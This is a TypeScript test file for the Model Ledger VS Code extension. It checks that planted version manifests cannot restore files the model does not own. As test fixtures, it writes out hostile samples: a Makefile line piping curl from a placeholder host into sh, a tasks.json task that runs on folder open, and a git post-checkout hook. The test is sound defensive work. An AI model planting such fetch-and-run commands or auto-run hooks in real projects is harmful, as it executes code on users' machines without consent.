// A planted manifest in the real VS Code (issue 20): a commit brings a manifest that names files the
// model does not own. Restoring it through the extension's command is refused with the paths named,
// before anything is written; a manifest naming `.vscode/tasks.json` and a nested `.git/hooks` file
// is suspect and never appears in the Registry tree, and restoring it by digest is refused too.
//
// Named to run after the other suites of the default scenario (files run in name order); it removes
// what it planted at the end.
import * as assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { manifestDigest, serializeManifest } from '../../../src/core/store/manifest';
import type { ArtifactRecord, VersionManifest } from '../../../src/core/model';
import { ObjectStore } from '../../../src/core/store/objectStore';
import type { ModelLedgerApi } from '../../../src/extension/extension';
import type { RegistryNode } from '../../../src/extension/registry/registryTree';
import { activatedExtension, testWorkspace, waitFor } from './hostTestSupport';

const MODEL = 'support-bot';

async function plant(root: string, number: number, files: Array<{ path: string; content: string; mode?: number }>): Promise<string> {
	const store = new ObjectStore(join(root, '.model-ledger', 'cache'));
	const artifacts: ArtifactRecord[] = [];
	for (const f of files) {
		const stored = await store.storeBuffer(Buffer.from(f.content));
		artifacts.push({ path: f.path, role: 'other', sha256: stored.sha256, size: stored.size, mode: f.mode ?? 0o644 });
	}
	const manifest: VersionManifest = {
		schema: 1, model: MODEL, number, label: `9.9.${number}`, versioning: 'semver', createdAt: new Date().toISOString(),
		author: { name: 'mallory' }, message: 'planted', artifacts, params: {}, metrics: {}, prompts: {}, weights: {}, lockfiles: {}, data: [],
		git: { commit: null, branch: null, remote: null, dirty: false },
	};
	const text = serializeManifest(manifest);
	const digest = manifestDigest(text);
	const dir = join(root, '.model-ledger', 'versions', MODEL);
	mkdirSync(dir, { recursive: true });
	writeFileSync(join(dir, `${digest}.yaml`), text);
	return digest;
}

function versionNodes(ml: ModelLedgerApi): RegistryNode[] {
	const model = ml.registryTree.getChildren().find((n) => n.kind === 'model' && n.model === MODEL);
	assert.ok(model, 'no model node in the Registry tree');
	return ml.registryTree.getChildren(model).filter((n) => n.kind === 'version');
}

describe('A planted manifest cannot restore files the model does not own', function () {
	this.timeout(120_000);
	const root = testWorkspace();
	const planted: string[] = [];
	const prompt = join(root, 'prompts', 'system.md');

	after(async () => {
		for (const digest of planted) rmSync(join(root, '.model-ledger', 'versions', MODEL, `${digest}.yaml`), { force: true });
		await vscode.commands.executeCommand('modelLedger.refresh').then(undefined, () => undefined);
	});

	it('refuses the restore, naming the paths, and writes nothing', async () => {
		const ml = (await activatedExtension()).exports as ModelLedgerApi;
		const promptBefore = readFileSync(prompt, 'utf8');
		const listed = await plant(root, 60, [
			{ path: 'prompts/system.md', content: 'planted prompt\n' },
			{ path: 'scripts/deploy.sh', content: '#!/bin/sh\necho owned\n', mode: 0o755 },
			{ path: 'Makefile', content: 'all:\n\tcurl https://example.invalid | sh\n' },
		]);
		const suspect = await plant(root, 61, [
			{ path: '.vscode/tasks.json', content: '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"echo owned","runOptions":{"runOn":"folderOpen"}}]}\n' },
			{ path: 'vendor/lib/.git/hooks/post-checkout', content: '#!/bin/sh\necho owned\n', mode: 0o755 },
		]);
		planted.push(listed, suspect);
		await vscode.commands.executeCommand('modelLedger.refresh').then(undefined, () => undefined);
		// The well-formed one is a version (its paths stay inside the workspace); the suspect one never shows.
		await waitFor('the planted version in the Registry tree', () => versionNodes(ml).some((n) => n.kind === 'version' && n.digest === listed));
		assert.ok(!versionNodes(ml).some((n) => n.kind === 'version' && n.digest === suspect), 'a suspect manifest is not a version in the tree');

		for (const args of [{ dryRun: true }, { force: true }]) {
			await assert.rejects(
				Promise.resolve(vscode.commands.executeCommand('modelLedger.restoreVersion', { model: MODEL, ref: listed, ...args })),
				(err: unknown) => {
					const text = String((err as Error).message ?? err);
					assert.match(text, /Refusing to restore support-bot v60: its manifest names 2 file\(s\) that are not support-bot's: Makefile \(not tracked by support-bot's globs\), scripts\/deploy\.sh/);
					return true;
				},
			);
		}
		await assert.rejects(Promise.resolve(vscode.commands.executeCommand('modelLedger.restoreVersion', { model: MODEL, ref: suspect, force: true })), (err: unknown) => {
			const text = String((err as Error).message ?? err);
			assert.match(text, /suspect manifest/i);
			assert.match(text, /\.vscode\/tasks\.json|vendor\/lib\/\.git\/hooks\/post-checkout/);
			return true;
		});

		assert.equal(readFileSync(prompt, 'utf8'), promptBefore, 'the prompt the model owns was not written either');
		for (const path of ['scripts/deploy.sh', 'Makefile', '.vscode/tasks.json', 'vendor']) assert.ok(!existsSync(join(root, path)), `${path} was not written`);
	});
});
